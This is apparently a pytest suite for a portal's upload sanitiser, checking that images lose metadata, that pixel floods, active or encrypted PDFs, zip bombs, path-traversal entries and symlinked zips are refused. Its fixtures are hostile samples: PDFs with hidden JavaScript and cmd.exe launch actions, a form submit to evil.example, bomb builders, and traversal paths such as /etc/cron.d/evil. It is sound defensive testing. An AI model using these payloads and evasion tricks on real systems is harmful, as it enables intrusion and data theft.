"""What is inside an upload (security.md H4): images re-encoded without metadata and refused when they flood
pixels or do not decode; PDFs with active content or encryption refused, however hidden; DOCX/ODT zips
refused on their declared entry count, size and paths; a store that cannot be written gives ``storage``."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib
from pathlib import Path

import hypothesis
import pytest
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import NameObject

from ehcna_portal.services import document_store
from ehcna_portal.services.document_store import MAX_PIXELS, RefusedFile, pdf_problem, store
from ehcna_portal.services.file_stores import DirectoryStore
from tests.support.images import GPS_IFD, image_bytes
from tests.support.pdfs import build, javascript_action

LIMIT = 20 * 1024 * 1024


@pytest.fixture
def directory(tmp_path: Path) -> Path:
    return tmp_path / "documents"


def put(directory: Path, filename: str, content: bytes) -> tuple[document_store.StoredFile, bytes]:
    stored = store(DirectoryStore(directory), filename, io.BytesIO(content), LIMIT)
    return stored, (directory / stored.stored_name).read_bytes()


def refusal(directory: Path, filename: str, content: bytes) -> str:
    with pytest.raises(RefusedFile) as caught:
        store(DirectoryStore(directory), filename, io.BytesIO(content), LIMIT)
    left = [path.name for path in directory.iterdir()] if directory.exists() else []
    assert left == [], "a refused file left something behind"
    return caught.value.code


def png_chunks(content: bytes) -> list[bytes]:
    chunks, pos = [], 8
    while pos < len(content):
        (length,) = struct.unpack(">I", content[pos:pos + 4])
        chunks.append(content[pos + 4:pos + 8])
        pos += 12 + length
    return chunks


# ---------------------------------------------------------------- images

def test_a_photo_loses_its_gps_position_camera_owner_and_comment(directory):
    upload = image_bytes("JPEG", gps=True, text=True)
    with Image.open(io.BytesIO(upload)) as original:  # the test photo really carries them
        assert original.getexif().get_ifd(GPS_IFD) and original.info.get("comment")
    assert b"Parent Name" in upload and b"PhoneMaker" in upload

    stored, kept = put(directory, "photo.jpg", upload)
    with Image.open(io.BytesIO(kept)) as cleaned:
        assert cleaned.format == "JPEG" and cleaned.size == (8, 6)
        assert dict(cleaned.getexif()) == {} and "exif" not in cleaned.info and "comment" not in cleaned.info
        assert min(cleaned.getpixel((6, 4))) > 240  # the picture itself is kept
    for secret in (b"Exif", b"Parent Name", b"PhoneMaker", b"home address"):
        assert secret not in kept
    assert (stored.size_bytes, stored.sha256) == (len(kept), hashlib.sha256(kept).hexdigest())
    assert stored.sha256 != hashlib.sha256(upload).hexdigest()


def test_a_png_keeps_only_its_picture_chunks(directory):
    upload = image_bytes("PNG", gps=True, text=True)
    assert {b"tEXt", b"iTXt", b"eXIf"} <= set(png_chunks(upload))
    stored, kept = put(directory, "drawing.png", upload)
    assert set(png_chunks(kept)) <= {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}
    assert b"Parent Name" not in kept and b"home address" not in kept
    assert (stored.size_bytes, stored.sha256) == (len(kept), hashlib.sha256(kept).hexdigest())


def test_a_transparent_palette_png_stays_transparent(directory):
    upload = image_bytes("PNG", mode="P", transparency=0)
    _, kept = put(directory, "icon.png", upload)
    with Image.open(io.BytesIO(kept)) as cleaned:
        assert cleaned.mode == "P" and cleaned.info.get("transparency") == 0


def test_a_sideways_phone_photo_is_turned_upright_before_its_exif_goes(directory):
    exif = Image.Exif()
    exif[0x0112] = 6  # "rotate 90° clockwise to display"
    upload = image_bytes("JPEG", size=(8, 6), exif=exif)
    _, kept = put(directory, "phone.jpg", upload)
    with Image.open(io.BytesIO(kept)) as cleaned:
        assert cleaned.size == (6, 8) and dict(cleaned.getexif()) == {}


def test_anything_hidden_after_the_picture_is_dropped(directory):
    upload = image_bytes("JPEG") + b"PK\x03\x04<script>alert(1)</script>"
    _, kept = put(directory, "photo.jpg", upload)
    assert b"<script>" not in kept and b"PK\x03\x04" not in kept


def flood_png(width: int, height: int) -> bytes:
    """A real 1-bit PNG of ``width`` × ``height`` white pixels: huge when decoded, small on the wire."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


@pytest.mark.filterwarnings("error::PIL.Image.DecompressionBombWarning")  # as document_store sets it
@pytest.mark.parametrize(("width", "height"), [(20000, 20000), (7072, 7072)])
def test_a_pixel_flood_is_refused_before_it_is_decoded(directory, width, height):
    assert width * height > MAX_PIXELS
    upload = flood_png(width, height)
    assert len(upload) < 2 * 1024 * 1024
    assert refusal(directory, "huge.png", upload) == "image_too_large"


def test_a_picture_just_under_the_pixel_limit_is_accepted(directory):
    stored, kept = put(directory, "big.png", flood_png(7071, 7071))
    assert stored.file_type == "png" and kept.startswith(b"\x89PNG")


def test_a_jpeg_claiming_enormous_dimensions_is_refused(directory):
    upload = bytearray(image_bytes("JPEG"))
    sof = upload.index(b"\xff\xc0")
    upload[sof + 5:sof + 9] = struct.pack(">HH", 60000, 60000)  # height, width
    assert refusal(directory, "x.jpg", bytes(upload)) == "image_too_large"


def noisy_png() -> bytes:
    image = Image.frombytes("RGB", (64, 64), bytes((i * 37 + i // 7) % 256 for i in range(64 * 64 * 3)))
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


@pytest.mark.parametrize(("name", "content"), [
    ("cut.png", noisy_png()[:400]),
    ("cut.jpg", image_bytes("JPEG", size=(64, 64))[:200]),
    ("garbage.png", b"\x89PNG\r\n\x1a\n" + b"\x13" * 300),
    ("garbage.jpg", b"\xff\xd8\xff\xe0" + b"\x13" * 300),
    ("bad-crc.png", noisy_png()[:-20] + b"\x00" * 8 + noisy_png()[-12:]),
])
def test_an_image_that_does_not_decode_is_refused(directory, name, content):
    assert refusal(directory, name, content) == "image_broken"


# ---------------------------------------------------------------- PDFs

def writer_pdf(change=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("content", [
    build(),
    build(b"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]/PageMode/UseOutlines>>"),  # open at page 1
    build(compressed=frozenset({1, 2, 3})),  # dictionaries in a compressed object stream
    build(objects={3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Subtype/Link/Rect[0 0 9 9]"
                      b"/A<</S/URI/URI(https://www.coventry.gov.uk/)>>>>]>>"}),  # an ordinary web link
    writer_pdf(),
    # Binary data in a stream may hold bytes that look like names: a viewer never reads them as such.
    build(objects={4: b"<</Length 40/Filter/FlateDecode>>stream\n\x00/JS /AA\x00/Launch\x01/XFA \xff/"
                      b"JavaScript\x00\x00\x00\nendstream"}),
], ids=["minimal", "open-at-page", "object-streams", "web-link", "pypdf", "binary-stream"])
def test_ordinary_pdfs_are_accepted(directory, content):
    assert pdf_problem(content) == ""
    stored, kept = put(directory, "report.pdf", content)
    assert kept == content and stored.file_type == "pdf"


def catalog_with(extra: bytes) -> bytes:
    return build(b"<</Type/Catalog/Pages 2 0 R" + extra + b">>")


ACTIVE = {
    "open-action-javascript": catalog_with(b"/OpenAction " + javascript_action()),
    "document-javascript": catalog_with(b"/Names<</JavaScript<</Names[(a) " + javascript_action() + b"]>>>>"),
    "page-additional-actions": build(objects={3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O "
                                                 + javascript_action() + b">>>>"}),
    "launch": catalog_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "embedded-files": catalog_with(b"/Names<</EmbeddedFiles<</Names[(x.exe) 5 0 R]>>>>"),
    "rich-media": build(objects={3: b"<</Type/Page/Parent 2 0 R/Annots[<</Subtype/RichMedia>>]>>"}),
    "xfa-form": catalog_with(b"/AcroForm<</Fields[]/XFA 5 0 R>>"),
    "submit-form": catalog_with(b"/OpenAction<</S/SubmitForm/F(https://evil.example/)>>"),
    "import-data": catalog_with(b"/OpenAction<</S/ImportData/F(x.fdf)>>"),
    "go-to-embedded": catalog_with(b"/OpenAction<</S/GoToE/T<</R/C/N(x)>>>>"),
    "file-attachment-annotation": build(objects={3: b"<</Type/Page/Parent 2 0 R/Annots[<</Subtype/"
                                                    b"FileAttachment/FS<</EF<</F 5 0 R>>>>>>]>>"}),
    "pypdf-open-action-js": writer_pdf(lambda writer: writer.add_js("app.alert(1)")),
    "pypdf-attachment": writer_pdf(lambda writer: writer.add_attachment("notes.txt", b"hello")),
    # Names spelt with #xx escapes are the same names to every reader.
    "hex-escaped-javascript": catalog_with(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
    "hex-escaped-everything": catalog_with(b"/OpenAction<</S/#4C#61#75#6E#63#68/F(cmd.exe)>>"),
    "hex-escaped-additional-actions": catalog_with(b"/#41#41<</O 5 0 R>>"),
    # Compressed object streams: the script's dictionary is only there once inflated.
    "javascript-in-object-stream": build(b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
                                         {5: javascript_action()}, compressed=frozenset({1, 5})),
    "escaped-name-in-object-stream": build(b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
                                           {5: b"<</S/J#61vaScript/JS(x)>>"}, compressed=frozenset({5})),
}


@pytest.mark.parametrize("name", list(ACTIVE))
def test_pdfs_with_active_content_are_refused(directory, name):
    assert refusal(directory, "report.pdf", ACTIVE[name]) == "active_content"


def test_the_hidden_scripts_are_real_a_pdf_reader_finds_them():
    """The escaped and compressed spellings are not just bytes we refuse: pypdf reads them as scripts."""
    escaped = PdfReader(io.BytesIO(ACTIVE["hex-escaped-javascript"])).trailer["/Root"]["/OpenAction"]
    assert escaped["/S"] == NameObject("/JavaScript") and escaped["/JS"] == "app.alert(1)"
    packed = PdfReader(io.BytesIO(ACTIVE["javascript-in-object-stream"]))
    assert packed.trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
    assert b"JavaScript" not in ACTIVE["javascript-in-object-stream"]  # invisible without inflating


def object_stream_pdf(filter_entry: bytes, content: bytes) -> bytes:
    """A PDF whose object 5 (an object stream) holds a script, with the filter given."""
    header = b"6 0 "
    body = header + javascript_action()
    data = content or body
    return build(b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>", {
        5: b"<</Type/ObjStm/N 1/First %d%s/Length %d>>stream\n" % (len(header), filter_entry, len(data))
           + data + b"\nendstream"})


def test_an_object_stream_we_cannot_decode_is_refused():
    action = b"6 0 " + javascript_action()
    assert pdf_problem(object_stream_pdf(b"/Filter/ASCIIHexDecode", action.hex().encode() + b">")) \
        == "active_content"
    assert pdf_problem(object_stream_pdf(b"/Filter 9 0 R", zlib.compress(action))) == "active_content"
    assert pdf_problem(object_stream_pdf(b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>",
                                         zlib.compress(action))) == "active_content"
    assert pdf_problem(object_stream_pdf(b"/Filter/FlateDecode", b"not zlib at all")) == "active_content"


def test_an_object_stream_with_no_filter_or_flate_is_read(directory):
    assert pdf_problem(object_stream_pdf(b"", b"")) == "active_content"
    assert pdf_problem(object_stream_pdf(b"/Filter/FlateDecode", zlib.compress(b"6 0 <</S/GoTo/D[3 0 R/Fit]>>"))) \
        == ""


def test_an_object_stream_that_inflates_past_the_budget_is_refused(monkeypatch):
    monkeypatch.setattr(document_store, "MAX_PDF_INFLATED", 1024 * 1024)
    harmless = b"6 0 " + b"<</S/GoTo/D[3 0 R/Fit]>>" + b" " * (2 * 1024 * 1024)
    assert pdf_problem(object_stream_pdf(b"/Filter/FlateDecode", zlib.compress(harmless))) == "active_content"
    assert pdf_problem(object_stream_pdf(b"/Filter/FlateDecode", zlib.compress(harmless[:1000]))) == ""


def test_an_object_hidden_inside_another_streams_bytes_is_found():
    """A viewer reaches objects by their byte offset, even inside what looks like an image's data."""
    hidden = b"<</Subtype/Image/Width 1/Height 1/Length 60>>stream\n\x00\x01 7 0 obj " + javascript_action() \
        + b" endobj\nendstream"
    assert pdf_problem(build(objects={5: hidden})) == "active_content"


def test_the_stream_keyword_inside_a_string_does_not_hide_what_follows():
    tricky = build(objects={5: b"<</Title (stream\n)>>", 6: javascript_action()})
    assert pdf_problem(tricky) == "active_content"


@pytest.mark.parametrize("content", [
    b"%PDF-1.4\n1 0 obj<</Title(never closed>>endobj\n5 0 obj<</Length 9>>stream\nxxxxxxxxx\nendstream",
    b"%PDF-1.4\n1 0 obj<</Type/Catalog<</Nested 1>> endobj trailer<</Root 1 0 R>>",
    build(objects={5: b"<</Length 34>>stream\n12345endstream\n7890123456789012345\nendstream"}),
], ids=["open-string", "open-dictionary", "endstream-inside-length"])
def test_a_pdf_whose_structure_cannot_be_followed_is_refused(content):
    assert pdf_problem(content) == "active_content"


def test_javascript_mentioned_only_in_text_is_refused_rather_than_guessed_at():
    """Names are read in strings and comments too: a harmless file may be refused, a script never missed."""
    assert pdf_problem(build(objects={5: b"<</Title(about /JavaScript)>>"})) == "active_content"


def test_encrypted_pdfs_are_refused(directory):
    for password in ("secret", ""):  # an empty user password still encrypts every string and stream
        encrypted = writer_pdf(lambda writer, password=password: writer.encrypt(password, "owner"))
        assert refusal(directory, "locked.pdf", encrypted) == "encrypted"
    assert pdf_problem(build(trailer_extra=b"/Encrypt 9 0 R", compressed=frozenset({2}))) == "encrypted"


# ---------------------------------------------------------------- DOCX and ODT (zip files)

DOCX_PARTS = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}


def docx(entries: dict[str, bytes] | None = None, *, level: int = 6, symlink: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in {**DOCX_PARTS, **(entries or {})}.items():
            archive.writestr(name, content)
        if symlink:
            info = zipfile.ZipInfo(symlink)
            info.create_system = 3
            info.external_attr = (0o120777 << 16)
            archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def test_an_ordinary_docx_is_accepted(directory):
    stored, _ = put(directory, "plan.docx", docx({"word/media/image1.png": image_bytes("PNG")}))
    assert stored.file_type == "docx"


def test_a_docx_with_more_than_a_thousand_entries_is_refused(directory):
    many = {f"word/media/p{index}.xml": b"x" for index in range(999)}
    assert len(many) + len(DOCX_PARTS) == 1001
    assert refusal(directory, "plan.docx", docx(many)) == "unsafe_zip"
    put(directory, "plan.docx", docx(dict(list(many.items())[:998])))  # 1000 is fine


def test_a_zip_bomb_is_refused_from_its_declared_sizes_without_decompressing(directory, monkeypatch):
    bomb = docx({"word/padding.xml": bytes(101 * 1024 * 1024)}, level=1)  # 101 MB of zeros
    assert len(bomb) < 1024 * 1024

    real_open = zipfile.ZipFile.open

    def tripwire(self, name, *args, **kwargs):
        if name not in ("mimetype", "[Content_Types].xml"):
            raise AssertionError(f"decompressed {name}")
        return real_open(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", tripwire)
    assert refusal(directory, "plan.docx", bomb) == "unsafe_zip"


@pytest.mark.parametrize("name", ["../evil.xml", "word/../../evil.xml", "/etc/cron.d/evil", "\\evil.xml",
                                  "C:/Windows/evil.xml", "word\\..\\..\\evil.xml"])
def test_a_docx_with_a_path_outside_itself_is_refused(directory, name):
    assert refusal(directory, "plan.docx", docx({name: b"x"})) == "unsafe_zip"


def test_a_docx_holding_a_symbolic_link_is_refused(directory):
    assert refusal(directory, "plan.docx", docx(symlink="word/link.xml")) == "unsafe_zip"


def test_an_odt_is_checked_the_same_way(directory):
    odt = io.BytesIO()
    with zipfile.ZipFile(odt, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", b"<office:document-content/>")
        archive.writestr("../../evil", b"x")
    assert refusal(directory, "views.odt", odt.getvalue()) == "unsafe_zip"


# ---------------------------------------------------------------- storage that cannot be written

def test_an_unwritable_store_is_a_storage_refusal_and_recovers_without_a_restart(tmp_path, caplog):
    directory = tmp_path / "documents"
    directory.write_text("a file where the folder should be")  # as broken as a missing mount
    with pytest.raises(RefusedFile) as caught:
        store(DirectoryStore(directory), "report.pdf", io.BytesIO(build()), LIMIT)
    assert caught.value.code == "storage"
    assert "could not write" in caplog.text  # an operator is told
    assert sorted(path.name for path in tmp_path.iterdir()) == ["documents"]

    directory.unlink()  # the operator fixes it; the same process goes on
    stored = store(DirectoryStore(directory), "report.pdf", io.BytesIO(build()), LIMIT)
    assert (directory / stored.stored_name).read_bytes() == build()


# ---------------------------------------------------------------- fuzzing: any bytes, a verdict, never a crash

FUZZ = hypothesis.settings(max_examples=300, deadline=None,
                           suppress_health_check=[hypothesis.HealthCheck.function_scoped_fixture])
PDF_PIECES = [b"<<", b">>", b"(", b")", b"\\", b"/JS", b"/J#53", b"#", b"stream\n", b"endstream", b" obj ",
              b"endobj", b"/Length 5", b"/Filter/FlateDecode", b"/Type/ObjStm/First 4", b"[", b"]", b"%", b"\n",
              b"1 0 R", b"<41>", b"/Encrypt", zlib.compress(b"1 0 <</S/JavaScript>>")]


@FUZZ
@hypothesis.given(st.lists(st.one_of(st.sampled_from(PDF_PIECES), st.binary(max_size=40)), max_size=60))
def test_any_pdf_like_bytes_get_a_verdict(pieces):
    assert pdf_problem(b"%PDF-1.7\n" + b"".join(pieces)) in ("", "active_content", "encrypted")


@FUZZ
@hypothesis.given(st.binary(max_size=2000), st.sampled_from(["png", "jpg"]))
def test_any_bytes_behind_an_image_header_are_refused_or_re_encoded(tmp_path, junk, kind):
    source, target = tmp_path / "in", tmp_path / "out"
    target.unlink(missing_ok=True)
    source.write_bytes((b"\x89PNG\r\n\x1a\n" if kind == "png" else b"\xff\xd8\xff") + junk)
    try:
        document_store.reencode_image(source, target, kind)
    except RefusedFile as refused:
        assert refused.code in ("image_broken", "image_too_large")
    else:
        assert document_store.sniff(target.read_bytes()[:16]) == kind


@FUZZ
@hypothesis.given(st.binary(max_size=3000))
def test_any_bytes_behind_a_zip_header_are_judged(tmp_path, junk):
    path = tmp_path / "z"
    path.write_bytes(b"PK\x03\x04" + junk)
    assert document_store.zip_problem(path) in ("", "unsafe_zip")
    assert document_store.sniff(b"PK\x03\x04", path) in ("", "docx", "odt")
